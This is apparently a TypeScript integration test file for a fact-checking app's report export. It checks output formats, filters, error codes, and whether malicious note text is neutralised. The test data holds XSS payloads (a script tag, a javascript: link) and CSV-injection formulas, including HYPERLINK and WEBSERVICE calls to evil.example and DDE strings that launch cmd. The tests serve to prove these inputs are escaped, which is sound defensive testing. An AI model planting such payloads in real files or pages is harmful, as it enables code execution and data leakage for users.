// The report export over HTTP: every format from the real server, headers, filters, safety,
// W3C conformance of the real output and 400 for unknown formats.
import { beforeAll, describe, expect, it } from 'vitest';
import { parse } from 'csv-parse/sync';
import MarkdownIt from 'markdown-it';
import { createSampleArticle, createTestUser, testDatabase, type TestUser } from '../support/db';
import { anonymous, login, type Client } from '../support/http';
import { failedAssertions, MUST_TESTS } from '../unit/report/w3c-conformance';
import { CanonicalText } from '@/lib/document/canonical-text';
import { getArticleText } from '@/db/queries/articles';

let alice: TestUser;
let aliceClient: Client;
let bobClient: Client;
let articleId: number;
let bobId: number;
const today = new Date().toISOString().slice(0, 10);

async function annotate(client: Client, passage: string, status: string, extra: Record<string, unknown> = {}) {
  const text = new CanonicalText(getArticleText(testDatabase().db, alice, articleId)!);
  const start = text.offsetFromUnit(text.text.indexOf(passage));
  const res = await client.post(`/api/articles/${articleId}/annotations`, { start, end: start + [...passage].length, status, ...extra });
  expect(res.status).toBe(201);
  return res.json();
}

beforeAll(async () => {
  alice = await createTestUser({ name: 'Alice Analyst' });
  const bob = await createTestUser({ name: 'Борис Проверкин' });
  bobId = bob.id;
  [aliceClient, bobClient] = await Promise.all([login(alice.email, alice.password), login(bob.email, bob.password)]);
  articleId = createSampleArticle(alice, 'Report check: Aleppo');
  await annotate(aliceClient, 'Syrian opposition forces have seized control of Aleppo’s military airport', 'verified', {
    note: 'Confirmed by two agencies, "on record", =1+1',
    sources: [{ url: 'https://example.org/agency', title: 'Agency, report' }],
  });
  await annotate(bobClient, 'a “major reputational setback” for Russia', 'disputed', { note: '<script>alert(1)</script> [x](javascript:alert(1))' });
  await annotate(aliceClient, 'The dismissal of General Sergei Kisel', 'needs_source');
});

const get = (format: string, extra = '') => aliceClient.get(`/api/articles/${articleId}/report?format=${format}${extra}`);

describe('report export', () => {
  it('answers each format with its content type and an attachment name', async () => {
    const expected: Record<string, [RegExp, string]> = {
      html: [/^text\/html/, 'html'],
      pdf: [/^application\/pdf/, 'pdf'],
      md: [/^text\/markdown/, 'md'],
      csv: [/^text\/csv/, 'csv'],
      json: [/^application\/ld\+json/, 'jsonld'],
      claimreview: [/^application\/ld\+json/, 'json'],
    };
    for (const [format, [type, ext]] of Object.entries(expected)) {
      const res = await get(format);
      expect(res.status, format).toBe(200);
      expect(res.headers.get('content-type')).toMatch(type);
      expect(res.headers.get('content-disposition')).toBe(`attachment; filename="report-check-aleppo-factcheck-${today}.${ext}"`);
    }
  });

  it('CSV parses back field by field, with formula cells neutralised', async () => {
    const rows: Record<string, string>[] = parse((await (await get('csv')).text()).replace(/^\uFEFF/, ''), { columns: true });
    expect(rows.map((r) => r.status)).toEqual(['verified', 'disputed', 'needs_source']);
    expect(rows[0].passage).toBe('Syrian opposition forces have seized control of Aleppo’s military airport');
    // A "=" inside the cell is not a formula: only a leading one is neutralised.
    expect(rows[0].note).toBe('Confirmed by two agencies, "on record", =1+1');
    expect(rows[0].sources).toContain('https://example.org/agency');
    expect(rows[1].reviewer).toBe('Борис Проверкин');

    // Notes a spreadsheet would run as formulas (OWASP CSV injection: = + - @ and tab), on an
    // article of their own so the counts above stay as they are.
    const formulas = ['=HYPERLINK("https://evil.example","Click")', '+cmd|\' /C calc\'!A0', '-2+3+cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd|\' /C calc\'!A0', '\t=1+1'];
    const formulaArticle = createSampleArticle(alice, 'Report check: formulas');
    const text = new CanonicalText(getArticleText(testDatabase().db, alice, formulaArticle)!);
    const passages = ['Aleppo and Idlib', 'Hezbollah in Syria', 'Wagner Group mercenaries', 'Iran-backed militias', 'General Sergei Kisel'];
    for (const [i, note] of formulas.entries()) {
      const start = text.offsetFromUnit(text.text.indexOf(passages[i]));
      const res = await aliceClient.post(`/api/articles/${formulaArticle}/annotations`, {
        start,
        end: start + [...passages[i]].length,
        status: 'disputed',
        note,
        sources: i === 0 ? [{ url: 'https://example.org/sheet', title: '=WEBSERVICE("https://evil.example")' }] : [],
      });
      expect(res.status).toBe(201);
    }
    const csv = await (await aliceClient.get(`/api/articles/${formulaArticle}/report?format=csv`)).text();
    const formulaRows: Record<string, string>[] = parse(csv.replace(/^\uFEFF/, ''), { columns: true });
    const notes = formulaRows.map((r) => r.note).sort();
    expect(notes).toEqual(formulas.map((n) => `'${n}`).sort());
    expect(formulaRows.find((r) => r.sources.includes('example.org/sheet'))!.sources).toBe(`'=WEBSERVICE("https://evil.example") <https://example.org/sheet>`);
  });

  it('W3C JSON-LD passes every MUST assertion of the W3C suite', async () => {
    const collection = await (await get('json')).json();
    expect(collection.total).toBe(3);
    const page = collection.first;
    expect(failedAssertions(collection, MUST_TESTS.collection)).toEqual([]);
    expect(failedAssertions(page, MUST_TESTS.page)).toEqual([]);
    for (const annotation of page.items) expect(failedAssertions(annotation, MUST_TESTS.annotation)).toEqual([]);
    expect(page.items.map((a: { motivation: string }) => a.motivation)).toEqual(['assessing', 'assessing', 'questioning']);
  });

  it('ClaimReview covers verdicts only and states how many needs-source passages were left out', async () => {
    const doc = await (await get('claimreview')).json();
    expect(doc['@graph']).toHaveLength(2);
    expect(doc['@graph'].map((r: { reviewRating: { alternateName: string } }) => r.reviewRating.alternateName)).toEqual(['Verified', 'Disputed']);
    expect(doc.description).toContain("1 passage marked “Needs source” is omitted");
  });

  it('keeps notes inert in HTML and Markdown, and PDF is a PDF', async () => {
    const html = await (await get('html')).text();
    expect(html).not.toContain('<script>alert(1)');
    expect(html).toContain('&lt;script&gt;alert(1)&lt;/script&gt;');
    expect(html).not.toMatch(/href="javascript:/i);
    const md = await (await get('md')).text();
    expect(md).not.toMatch(/\]\(javascript:/);
    // The note is there — escaped, not dropped — and renders as its own text, with no link or tag.
    expect(md).toContain('> \\<script\\>alert\\(1\\)\\</script\\> \\[x\\]\\(javascript:alert\\(1\\)\\)');
    const rendered = new MarkdownIt({ html: true }).render(md);
    expect(rendered).toContain('&lt;script&gt;alert(1)&lt;/script&gt; [x](javascript:alert(1))');
    expect(rendered).not.toContain('<script>');
    expect(rendered).not.toMatch(/href="javascript:/i);
    const pdf = new Uint8Array(await (await get('pdf')).arrayBuffer());
    expect(new TextDecoder().decode(pdf.slice(0, 5))).toBe('%PDF-');
  });

  it('applies the sidebar filters', async () => {
    const disputed = await (await get('json', '&status=disputed')).json();
    expect(disputed.total).toBe(1);
    // The sidebar can select several statuses: `status` repeats, and each counts.
    const two = parse((await (await get('csv', '&status=disputed&status=verified')).text()).replace(/^\uFEFF/, ''), { columns: true }) as { status: string }[];
    const one = parse((await (await get('csv', '&status=verified')).text()).replace(/^\uFEFF/, ''), { columns: true }) as { status: string }[];
    expect(two.length).toBe(one.length + 1);
    expect(new Set(two.map((r) => r.status)).size).toBe(2);
    const byBob = parse((await (await get('csv', `&reviewer=${bobId}`)).text()).replace(/^\uFEFF/, ''), { columns: true });
    expect(byBob).toHaveLength(1);
  });

  it('refuses unknown formats with 400 listing the valid ones, and signed-out requests with 401', async () => {
    const res = await get('docx');
    expect(res.status).toBe(400);
    const body = await res.json();
    expect(body.error.message).toContain('html, pdf, md, csv, json, claimreview');
    expect((await anonymous.get(`/api/articles/${articleId}/report?format=html`)).status).toBe(401);
    expect((await aliceClient.get('/api/articles/999999/report?format=html')).status).toBe(404);
    expect((await get('html', '&status=maybe')).status).toBe(400);
  });

  it('serves the printable report page without app chrome', async () => {
    const res = await aliceClient.get(`/articles/${articleId}/report`);
    expect(res.status).toBe(200);
    const html = await res.text();
    expect(html).toContain('Report check: Aleppo');
    expect(html).toContain('@media print');
    expect(html).not.toContain('Sign out');
  });
});
